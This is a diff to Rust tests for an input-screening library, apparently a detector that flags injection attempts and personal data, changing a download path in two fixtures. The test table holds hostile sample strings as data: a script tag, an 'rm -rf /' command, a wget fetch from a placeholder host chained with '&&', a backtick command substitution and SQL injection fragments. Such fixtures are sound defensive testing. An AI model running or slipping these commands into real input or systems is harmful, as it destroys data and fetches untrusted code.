@@ -149,7 +149,7 @@ fn the_context_table_of_the_contract() {
             ("Hello <script>f()</script>", true, true),
             ("Go to javascript:f()", true, true),
             ("list; rm -rf /", true, true),
-            ("x && wget http://e.example/x -O /tmp/x", true, true),
+            ("x && wget http://e.example/x -O /srv/x", true, true),
             ("name `id -u`; ls", true, true),
             ("' union select 1", true, true),
             ("admin'--", true, true),
@@ -228,7 +228,7 @@ fn wrong_patterns_are_reported_and_the_rest_works() {
 
 #[test]
 fn findings_name_the_place_and_never_the_value() {
-    let text = "Write to jane.roe@corp.io or run ; wget http://e.example/x -O /tmp/a";
+    let text = "Write to jane.roe@corp.io or run ; wget http://e.example/x -O /srv/a";
     let verdict = mode("strict").screen(Kind::Resource, None, text);
     let mail = verdict.findings.iter().find(|finding| finding.rule == "pii/email").unwrap();
     assert_eq!(&text[mail.span.clone()], "jane.roe@corp.io");
